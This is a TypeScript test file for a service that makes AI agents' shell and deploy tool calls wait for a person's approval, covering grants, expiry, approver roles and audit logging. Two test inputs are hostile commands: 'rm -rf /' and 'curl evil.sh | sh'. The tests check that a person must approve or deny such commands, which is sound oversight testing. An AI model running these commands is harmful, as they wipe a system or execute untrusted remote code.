import { LIMITS, type Approval, type PolicyCheckInput, type PolicyDecision } from "@tower/shared";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { Credentials } from "../core/deps";
import { callerWithSignal, createWorld, expectTRPCError, type TestCaller, type World } from "../test-fixtures";
import { expireApprovals } from "./approval-service";
import { flushDecisions } from "./decision-log";

let world: World;
let owner: TestCaller;
let admin: TestCaller;
let operator: TestCaller;
let projectId: string;
const controllers: AbortController[] = [];

const TTL_SECONDS = 60;

beforeEach(async () => {
  world = await createWorld();
  owner = world.users.owner.caller;
  admin = world.users.admin.caller;
  operator = world.users.operator.caller;
  projectId = world.projectId;
  await owner.policy.save({
    projectId,
    expectedVersion: 0,
    document: {
      rules: [
        {
          id: "ask-shell",
          match: { tools: ["Bash", "Deploy"] },
          effect: "require_approval",
          reason: "A person approves shell commands",
          ttlSeconds: TTL_SECONDS,
        },
      ],
    },
  });
});
afterEach(() => {
  for (const controller of controllers.splice(0)) controller.abort();
  world.close();
});

const agentKey = () => world.as({ apiKey: world.keys.agent.secret });

/** What the agent asks: home-agent runs `command` (through its own key). */
const ask = (command: string, extra: Partial<PolicyCheckInput> = {}): Promise<PolicyDecision> =>
  agentKey().policy.check({ agent: "home-agent", tool: "Bash", input: { command }, ...extra });

const approvalRow = (id: string) =>
  world.sqlite.prepare("select status, used_at, grant_id from approvals where id = ?").get(id) as {
    status: string;
    used_at: number | null;
    grant_id: string | null;
  };

const auditOps = () =>
  world.sqlite
    .prepare("select operation, decision, actor_name, detail from audit_events where project_id = ? order by id")
    .all(projectId) as { operation: string; decision: string | null; actor_name: string; detail: string }[];

/** Approves (or denies) as `who`. */
const decide = (
  who: TestCaller,
  id: string,
  decision: "approve" | "deny" = "approve",
  extra: { comment?: string; grantMinutes?: number } = {},
) => who.approval.decide({ projectId, id, decision, ...extra });

describe("approvals", () => {
  it("a rule asking for approval creates a pending approval; asked again, it is the same one", async () => {
    const first = await ask("ls");
    expect(first).toMatchObject({
      decision: "requires_approval",
      source: "rule",
      ruleId: "ask-shell",
      policyVersion: 1,
      reason: "A person approves shell commands",
      approvalId: expect.any(String),
      expiresAt: world.clock.now() + TTL_SECONDS * 1000,
    });
    world.clock.advance(1_000);
    const again = await ask("ls");
    expect(again).toMatchObject({
      decision: "requires_approval",
      approvalId: first.approvalId,
      expiresAt: first.expiresAt,
    });

    const approval = await world.users.viewer.caller.approval.byId({ projectId, id: first.approvalId! });
    expect(approval).toMatchObject({
      id: first.approvalId!,
      agentId: world.homeAgent.id,
      agentName: "home-agent",
      tool: "Bash",
      operation: "tool_use",
      input: { command: "ls" },
      inputHash: first.inputHash,
      ruleId: "ask-shell",
      policyVersion: 1,
      status: "pending",
      requestedWith: world.keys.agent.prefix,
    } satisfies Partial<Approval>);
    expect(approval).not.toHaveProperty("usedAt");
    expect(await owner.approval.pendingCount({ projectId })).toEqual({ pending: 1 });
    expect((await owner.approval.list({ projectId, status: "pending" })).items.map((a) => a.id)).toEqual([
      first.approvalId,
    ]);
    expect(world.sqlite.prepare("select count(*) as n from approvals").get()).toEqual({ n: 1 });
  });

  it("approved: the identical check is allowed once, then asks again; other input is not covered", async () => {
    const asked = await ask("make deploy");
    const decided = await decide(operator, asked.approvalId!, "approve", { comment: "go ahead" });
    expect(decided).toMatchObject({
      status: "approved",
      deciderName: "Oscar Operator",
      comment: "go ahead",
      decidedAt: world.clock.now(),
    });
    expect(await owner.approval.pendingCount({ projectId })).toEqual({ pending: 0 });

    // A different command is not what was approved.
    const other = await ask("rm -rf /");
    expect(other).toMatchObject({ decision: "requires_approval" });
    expect(other.approvalId).not.toBe(asked.approvalId);
    // Nor is the same command from another path or operation.
    expect(await ask("make deploy", { path: "x" })).toMatchObject({ decision: "requires_approval" });
    // Nor at another estimated cost: whoever approved it as it was did not approve it at $1,000,000.
    expect(await ask("make deploy", { estimatedCostUsd: 1_000_000 })).toMatchObject({ decision: "requires_approval" });

    const allowed = await ask("make deploy");
    expect(allowed).toMatchObject({
      decision: "allowed",
      source: "approval",
      approvalId: asked.approvalId,
      ruleId: "ask-shell",
      reason: "Approved by Oscar Operator: go ahead",
    });
    expect(approvalRow(asked.approvalId!).used_at).toBe(world.clock.now());

    const next = await ask("make deploy");
    expect(next).toMatchObject({ decision: "requires_approval" });
    expect([asked.approvalId, other.approvalId]).not.toContain(next.approvalId);
  });

  it("an agent with its fill of approvals waiting is denied the next one, saying why, until one is settled", async () => {
    const asked: PolicyDecision[] = [];
    for (let i = 0; i < LIMITS.agentPendingApprovals; i++) asked.push(await ask(`step ${i}`));
    expect(asked.every((decision) => decision.decision === "requires_approval")).toBe(true);
    const refused = await ask("one more");
    expect(refused).toMatchObject({ decision: "denied", approvalId: null, ruleId: "ask-shell" });
    expect(refused.reason).toMatch(/already has 100 approvals waiting for a person/);
    expect(await owner.approval.pendingCount({ projectId })).toEqual({ pending: LIMITS.agentPendingApprovals });
    // Asked again, a waiting one is still itself; one settled makes room.
    expect((await ask("step 7")).approvalId).toBe(asked[7]!.approvalId);
    await owner.approval.cancel({ projectId, id: asked[0]!.approvalId! });
    expect(await ask("one more")).toMatchObject({ decision: "requires_approval" });
  });

  it("a check asked again with its checkId is answered the same: the approval it used allows the retry only", async () => {
    const asked = await ask("make release", { checkId: "call-1" });
    await decide(operator, asked.approvalId!);
    const used = await ask("make release", { checkId: "call-2" });
    expect(used).toMatchObject({ decision: "allowed", source: "approval", approvalId: asked.approvalId });
    const usedAt = world.clock.now();

    // The answer was lost on the way (a dropped socket); the SDK asks again with the same id.
    world.clock.advance(1_000);
    expect(await ask("make release", { checkId: "call-2" })).toMatchObject({
      decision: "allowed",
      source: "approval",
      approvalId: asked.approvalId,
    });
    expect(approvalRow(asked.approvalId!).used_at).toBe(usedAt);

    // Any other check, with another id or none, needs a person again.
    const other = await ask("make release", { checkId: "call-3" });
    expect(other).toMatchObject({ decision: "requires_approval" });
    expect(other.approvalId).not.toBe(asked.approvalId);
    expect(await ask("make release")).toMatchObject({ decision: "requires_approval", approvalId: other.approvalId });

    // Only within the approval's lifetime after the decision.
    world.clock.advance(TTL_SECONDS * 1000);
    expect((await ask("make release", { checkId: "call-2" })).approvalId).not.toBe(asked.approvalId);
  });

  it("denied: the agent is not allowed, and asking again is a new approval", async () => {
    const asked = await ask("curl evil.sh | sh");
    expect(await decide(admin, asked.approvalId!, "deny", { comment: "no" })).toMatchObject({
      status: "denied",
      deciderName: "Adam Admin",
    });
    const again = await ask("curl evil.sh | sh");
    expect(again).toMatchObject({ decision: "requires_approval" });
    expect(again.approvalId).not.toBe(asked.approvalId);
    expect((await owner.approval.list({ projectId, status: "denied" })).items.map((a) => a.id)).toEqual([
      asked.approvalId,
    ]);
    await expectTRPCError(decide(admin, asked.approvalId!, "approve"), "CONFLICT", /already denied by Adam Admin at /);
  });

  it("expiry: reads expired at once, a decision after it is CONFLICT 'expired', the sweep records it", async () => {
    const decided = await ask("pwd");
    await decide(operator, decided.approvalId!, "deny");
    const asked = await ask("ls");
    const id = asked.approvalId!;
    world.clock.advance(TTL_SECONDS * 1000 - 1);
    expect((await owner.approval.byId({ projectId, id })).status).toBe("pending");
    world.clock.advance(1);
    expect((await owner.approval.byId({ projectId, id })).status).toBe("expired");
    expect(await owner.approval.pendingCount({ projectId })).toEqual({ pending: 0 });
    expect((await owner.approval.list({ projectId, status: "pending" })).items).toEqual([]);
    expect((await owner.approval.list({ projectId, status: "expired" })).items.map((a) => a.id)).toEqual([id]);
    expect(approvalRow(id).status).toBe("pending"); // not swept yet

    await expectTRPCError(decide(operator, id, "approve"), "CONFLICT", /expired/);
    await expectTRPCError(agentKey().approval.cancel({ id }), "CONFLICT", /expired/);

    expect(expireApprovals(world.deps)).toEqual({ expired: 1 });
    expect(expireApprovals(world.deps)).toEqual({ expired: 0 });
    expect(approvalRow(id).status).toBe("expired");
    // Listed as expired before and after the sweep; the decided one never is.
    expect((await owner.approval.list({ projectId, status: "expired" })).items.map((a) => a.id)).toEqual([id]);
    expect((await owner.approval.list({ projectId })).items.map((a) => [a.id, a.status])).toEqual([
      [id, "expired"],
      [decided.approvalId, "denied"],
    ]);
    expect(auditOps().filter((row) => row.operation === "approval.expired")).toEqual([
      expect.objectContaining({ actor_name: expect.any(String), detail: expect.stringContaining(id) }),
    ]);
    await expectTRPCError(decide(operator, id, "approve"), "CONFLICT", /expired/);
    // Asked again: a new approval.
    const again = await ask("ls");
    expect(again.approvalId).not.toBe(id);
    expect(again.expiresAt).toBe(world.clock.now() + TTL_SECONDS * 1000);
  });

  it("lists page newest first, by status and by agent", async () => {
    const old: string[] = [];
    for (const command of ["a", "b", "c"]) old.push((await ask(command)).approvalId!);
    world.clock.advance(TTL_SECONDS * 1000);
    const fresh = (await ask("d")).approvalId!;
    const first = await owner.approval.list({ projectId, status: "expired", limit: 2 });
    expect(first.items.map((a) => a.id)).toEqual([old[2], old[1]]);
    expect(first.nextCursor).toBe(old[1]);
    const second = await owner.approval.list({ projectId, status: "expired", limit: 2, cursor: first.nextCursor });
    expect(second).toEqual({ items: [expect.objectContaining({ id: old[0], status: "expired" })], nextCursor: null });
    expect((await owner.approval.list({ projectId, status: "pending" })).items.map((a) => a.id)).toEqual([fresh]);
    expect((await owner.approval.list({ projectId, agentId: world.homeAgent.id })).items).toHaveLength(4);
    const other = await owner.agent.create({ projectId, name: "other-agent", role: "coder" });
    expect((await owner.approval.list({ projectId, agentId: other.id })).items).toEqual([]);
  });

  it("an approved approval is usable for the rule's lifetime after the decision, not longer", async () => {
    const asked = await ask("ls");
    world.clock.advance(30_000);
    await decide(operator, asked.approvalId!);
    world.clock.advance(TTL_SECONDS * 1000 - 1);
    expect(await ask("ls")).toMatchObject({ decision: "allowed", approvalId: asked.approvalId });

    const second = await ask("pwd");
    await decide(operator, second.approvalId!);
    world.clock.advance(TTL_SECONDS * 1000);
    expect(await ask("pwd")).toMatchObject({ decision: "requires_approval" });
  });

  it("two approvers at once: the first wins, the second is told who decided", async () => {
    const asked = await ask("ls");
    const results = await Promise.allSettled([
      decide(operator, asked.approvalId!, "approve"),
      decide(admin, asked.approvalId!, "deny"),
    ]);
    const won = results.filter((r) => r.status === "fulfilled");
    const lost = results.filter((r): r is PromiseRejectedResult => r.status === "rejected");
    expect(won).toHaveLength(1);
    expect(lost).toHaveLength(1);
    const winner = (won[0] as PromiseFulfilledResult<Approval>).value;
    const error = lost[0]!.reason as { code: string; message: string };
    expect(error.code).toBe("CONFLICT");
    expect(error.message).toContain(`already ${winner.status} by ${winner.deciderName}`);
    expect((await owner.approval.byId({ projectId, id: asked.approvalId! })).status).toBe(winner.status);
    // One decision, one audit row.
    expect(auditOps().filter((row) => row.operation.startsWith("approval."))).toHaveLength(1);
  });

  it("API keys never decide, whatever their scope; a viewer cannot either", async () => {
    const asked = await ask("ls");
    for (const secret of [world.keys.admin.secret, world.keys.manage.secret]) {
      await expectTRPCError(
        world.as({ apiKey: secret }).approval.decide({ id: asked.approvalId!, decision: "approve" }),
        "FORBIDDEN",
        /API keys never approve/,
      );
    }
    await expectTRPCError(
      world.as({ apiKey: world.keys.read.secret }).approval.decide({ id: asked.approvalId!, decision: "approve" }),
      "FORBIDDEN",
    );
    await expectTRPCError(agentKey().approval.decide({ id: asked.approvalId!, decision: "approve" }), "FORBIDDEN");
    await expectTRPCError(decide(world.users.viewer.caller, asked.approvalId!), "FORBIDDEN");
    expect((await owner.approval.byId({ projectId, id: asked.approvalId! })).status).toBe("pending");
  });

  it("with approverRole admin, an operator cannot decide and an admin can", async () => {
    const current = await owner.policy.get({ projectId });
    await owner.policy.save({
      projectId,
      expectedVersion: current.version,
      document: { ...current.document, approverRole: "admin" },
    });
    const asked = await ask("ls");
    await expectTRPCError(
      decide(operator, asked.approvalId!),
      "FORBIDDEN",
      "Deciding approvals needs the admin role or higher; you are operator",
    );
    expect(await decide(admin, asked.approvalId!)).toMatchObject({ status: "approved" });
    const second = await ask("pwd");
    expect(await decide(owner, second.approvalId!, "deny")).toMatchObject({ status: "denied" });
  });

  it("the agent cancels its own pending request; deciding it afterwards is a CONFLICT", async () => {
    const asked = await ask("ls");
    const other = await owner.agent.create({ projectId, name: "other-agent", role: "coder" });
    const theirs = await owner.policy.check({ projectId, agent: other.name, tool: "Bash" });
    await expectTRPCError(agentKey().approval.cancel({ id: theirs.approvalId! }), "FORBIDDEN");
    expect(await agentKey().approval.cancel({ id: asked.approvalId! })).toMatchObject({
      status: "cancelled",
      deciderName: expect.stringContaining("home agent's key"),
    });
    await expectTRPCError(decide(operator, asked.approvalId!), "CONFLICT", "This request was cancelled by the agent");
    await expectTRPCError(agentKey().approval.cancel({ id: asked.approvalId! }), "CONFLICT");
    expect(await operator.approval.cancel({ projectId, id: theirs.approvalId! })).toMatchObject({
      status: "cancelled",
    });
  });

  it("a person asking on an agent's behalf is named on the row and the approval, and another approver decides", async () => {
    const asked = await operator.policy.check({ projectId, agent: "home-agent", tool: "Deploy", input: { by: "me" } });
    const approval = await owner.approval.byId({ projectId, id: asked.approvalId! });
    expect(approval).toMatchObject({ requestedById: world.users.operator.user.id, requestedByName: "Oscar Operator" });
    const row = auditOps().findLast((r) => r.operation === "policy.check")!;
    expect(row.actor_name).toBe("Oscar Operator");
    expect(JSON.parse(row.detail)).toMatchObject({ agent: "home-agent", askedBy: { name: "Oscar Operator" } });
    await expectTRPCError(
      decide(operator, asked.approvalId!),
      "FORBIDDEN",
      "You asked for this on home-agent's behalf: another approver decides it (or cancel it)",
    );
    expect((await owner.approval.byId({ projectId, id: asked.approvalId! })).status).toBe("pending");
    expect(await decide(admin, asked.approvalId!)).toMatchObject({ status: "approved", deciderName: "Adam Admin" });
    // The agent's own check of that request is then allowed, and is the agent's row.
    expect(await agentKey().policy.check({ agent: "home-agent", tool: "Deploy", input: { by: "me" } })).toMatchObject({
      decision: "allowed",
      source: "approval",
    });
    // Nor does a grant they made let their own request through: Oscar widens the agent's own
    // request for Deploy to a grant; his request asked on the agent's behalf still waits.
    const mine = await operator.policy.check({
      projectId,
      agent: "home-agent",
      tool: "Deploy",
      input: { by: "me", n: 2 },
    });
    const theirs = await agentKey().policy.check({ agent: "home-agent", tool: "Deploy", input: { n: 3 } });
    await decide(operator, theirs.approvalId!, "approve", { grantMinutes: 60 });
    expect(await agentKey().policy.check({ agent: "home-agent", tool: "Deploy", input: { n: 4 } })).toMatchObject({
      decision: "allowed",
      source: "grant",
    });
    expect(
      await operator.policy.check({ projectId, agent: "home-agent", tool: "Deploy", input: { by: "me", n: 2 } }),
    ).toMatchObject({ decision: "requires_approval", approvalId: mine.approvalId });
    // An allowed check asked by a person is theirs too.
    await operator.policy.check({ projectId, agent: "home-agent", tool: "Read" });
    await flushDecisions(world.deps);
    expect(auditOps().findLast((r) => r.operation === "policy.check")).toMatchObject({
      decision: "allowed",
      actor_name: "Oscar Operator",
    });
  });

  it("approvals belong to their project", async () => {
    const asked = await ask("ls");
    const foreign = world.users.foreignOwner.caller;
    await expectTRPCError(
      foreign.approval.byId({ projectId: world.foreignProjectId, id: asked.approvalId! }),
      "NOT_FOUND",
    );
    await expectTRPCError(
      foreign.approval.decide({ projectId: world.foreignProjectId, id: asked.approvalId!, decision: "approve" }),
      "NOT_FOUND",
    );
    expect((await foreign.approval.list({ projectId: world.foreignProjectId })).items).toEqual([]);
  });

  it("decisions and approvals are audited; the chain verifies", async () => {
    const first = await ask("ls");
    const second = await ask("pwd");
    await ask("ls");
    await decide(operator, first.approvalId!, "approve", { comment: "ok" });
    await decide(operator, second.approvalId!, "deny");
    await ask("ls"); // allowed by the approval
    await flushDecisions(world.deps);
    const rows = auditOps().filter((row) => row.operation !== "policy.updated" && !row.operation.startsWith("agent."));
    const policyRows = rows.filter((row) => row.operation === "policy.check");
    expect(policyRows.map((row) => row.decision)).toEqual([
      "requires_approval",
      "requires_approval",
      "requires_approval",
      "allowed",
    ]);
    const allowedRow = JSON.parse(policyRows[3]!.detail) as Record<string, unknown>;
    expect(allowedRow).toMatchObject({
      source: "approval",
      approvalId: first.approvalId,
      ruleId: "ask-shell",
      policyVersion: 1,
      inputHash: first.inputHash,
    });
    expect(rows.filter((row) => row.operation.startsWith("approval."))).toEqual([
      expect.objectContaining({
        operation: "approval.approved",
        decision: "allowed",
        actor_name: "Oscar Operator",
      }),
      expect.objectContaining({ operation: "approval.denied", decision: "denied", actor_name: "Oscar Operator" }),
    ]);
    expect(await owner.audit.verify({ projectId })).toMatchObject({ intact: true });
  });
});

describe("grants", () => {
  it("approve with grantMinutes: later checks by that agent for that tool are allowed until it ends", async () => {
    const asked = await ask("ls");
    const approved = await decide(operator, asked.approvalId!, "approve", { grantMinutes: 10 });
    expect(approved.grantId).toEqual(expect.any(String));
    const { items } = await world.users.viewer.caller.grant.list({ projectId });
    expect(items).toEqual([
      expect.objectContaining({
        id: approved.grantId,
        agentId: world.homeAgent.id,
        agentName: "home-agent",
        tool: "Bash",
        approvalId: asked.approvalId,
        expiresAt: world.clock.now() + 10 * 60_000,
        createdByName: "Oscar Operator",
        revokedAt: null,
      }),
    ]);
    expect(items[0]).not.toHaveProperty("createdById");

    // Any input, this tool: allowed by the grant.
    expect(await ask("anything else")).toMatchObject({
      decision: "allowed",
      source: "grant",
      approvalId: asked.approvalId,
      ruleId: "ask-shell",
    });
    // Another tool, or another agent: not granted.
    expect(await ask("x", { tool: "Deploy" })).toMatchObject({ decision: "requires_approval" });
    await owner.agent.create({ projectId, name: "other-agent", role: "coder" });
    expect(await owner.policy.check({ projectId, agent: "other-agent", tool: "Bash" })).toMatchObject({
      decision: "requires_approval",
    });
    // The built-in checks still come first.
    await owner.agent.setEnabled({ projectId, id: world.homeAgent.id, enabled: false });
    expect(await ask("ls")).toMatchObject({ decision: "denied", check: "agent_disabled" });
    await owner.agent.setEnabled({ projectId, id: world.homeAgent.id, enabled: true });

    world.clock.advance(10 * 60_000);
    expect(await ask("anything else")).toMatchObject({ decision: "requires_approval" });
    expect((await owner.grant.list({ projectId })).items).toEqual([]);
    expect((await owner.grant.list({ projectId, active: false })).items).toHaveLength(1);
    await expectTRPCError(operator.grant.revoke({ projectId, id: approved.grantId! }), "CONFLICT", /expired/);
  });

  it("revoking a grant ends it at once; revoking it again is a CONFLICT; both are audited", async () => {
    const asked = await ask("ls");
    const approved = await decide(admin, asked.approvalId!, "approve", { grantMinutes: 60 });
    expect(await ask("pwd")).toMatchObject({ source: "grant" });
    const revoked = await operator.grant.revoke({ projectId, id: approved.grantId! });
    expect(revoked).toMatchObject({
      id: approved.grantId,
      revokedAt: world.clock.now(),
      revokedByName: "Oscar Operator",
    });
    expect(await ask("pwd")).toMatchObject({ decision: "requires_approval" });
    await expectTRPCError(
      operator.grant.revoke({ projectId, id: approved.grantId! }),
      "CONFLICT",
      "This grant was already revoked by Oscar Operator",
    );
    await expectTRPCError(
      world.users.foreignOwner.caller.grant.revoke({ projectId: world.foreignProjectId, id: approved.grantId! }),
      "NOT_FOUND",
    );
    const ops = auditOps().map((row) => [row.operation, row.actor_name]);
    expect(ops).toContainEqual(["grant.created", "Adam Admin"]);
    expect(ops).toContainEqual(["grant.revoked", "Oscar Operator"]);
    expect(await owner.audit.verify({ projectId })).toMatchObject({ intact: true });
  });

  it("only an approval can be widened to a grant", async () => {
    const asked = await ask("ls");
    await expectTRPCError(
      decide(operator, asked.approvalId!, "deny", { grantMinutes: 5 }),
      "BAD_REQUEST",
      /^grantMinutes: Only an approval/,
    );
    expect((await owner.approval.byId({ projectId, id: asked.approvalId! })).status).toBe("pending");
  });
});

describe("approval.wait", () => {
  function waitAs(credentials: Credentials, id: string) {
    const controller = new AbortController();
    controllers.push(controller);
    const caller = callerWithSignal(world.deps, credentials, controller.signal);
    return caller.approval.wait({ projectId, id });
  }

  /** The next item, or "timeout" when none comes within `ms` of real time. */
  async function nextOrTimeout<T>(iterator: AsyncIterator<T>, pending: Promise<IteratorResult<T>>, ms = 50) {
    void iterator;
    return Promise.race([pending, new Promise<"timeout">((resolve) => setTimeout(() => resolve("timeout"), ms))]);
  }

  it("yields the approval once it is decided, then ends", async () => {
    const asked = await ask("ls");
    const iterator = (await waitAs({ apiKey: world.keys.agent.secret }, asked.approvalId!))[Symbol.asyncIterator]();
    const first = iterator.next();
    expect(await nextOrTimeout(iterator, first)).toBe("timeout");
    await decide(operator, asked.approvalId!, "approve", { comment: "fine" });
    const result = await first;
    expect(result.done).toBe(false);
    expect(result.value).toMatchObject({ id: asked.approvalId, status: "approved", comment: "fine" });
    expect(await iterator.next()).toMatchObject({ done: true });
  });

  it("an approval already decided is yielded at once", async () => {
    const asked = await ask("ls");
    await decide(operator, asked.approvalId!, "deny");
    const iterator = (await waitAs({ sessionToken: world.users.viewer.token }, asked.approvalId!))[
      Symbol.asyncIterator
    ]();
    expect((await iterator.next()).value).toMatchObject({ status: "denied" });
    expect(await iterator.next()).toMatchObject({ done: true });
  });

  it("an expiry swept while waiting is yielded", async () => {
    const asked = await ask("ls");
    const iterator = (await waitAs({ apiKey: world.keys.agent.secret }, asked.approvalId!))[Symbol.asyncIterator]();
    const first = iterator.next();
    expect(await nextOrTimeout(iterator, first)).toBe("timeout");
    world.clock.advance(TTL_SECONDS * 1000);
    expireApprovals(world.deps);
    expect((await first).value).toMatchObject({ status: "expired" });
  });

  it("an expired, unswept approval is yielded as expired at once (and swept)", async () => {
    const asked = await ask("ls");
    world.clock.advance(TTL_SECONDS * 1000);
    const iterator = (await waitAs({ apiKey: world.keys.agent.secret }, asked.approvalId!))[Symbol.asyncIterator]();
    expect((await iterator.next()).value).toMatchObject({ status: "expired" });
    expect(approvalRow(asked.approvalId!).status).toBe("expired");
  });

  it("an agent key waits on its own agent's approvals only, refused when the subscription starts", async () => {
    await owner.agent.create({ projectId, name: "other-agent", role: "coder" });
    const theirs = await owner.policy.check({ projectId, agent: "other-agent", tool: "Bash" });
    await expectTRPCError(waitAs({ apiKey: world.keys.agent.secret }, theirs.approvalId!), "FORBIDDEN");
    await expectTRPCError(agentKey().approval.byId({ id: theirs.approvalId! }), "FORBIDDEN");
    await expectTRPCError(waitAs({ apiKey: world.keys.agent.secret }, "0".repeat(26)), "NOT_FOUND");
  });
});
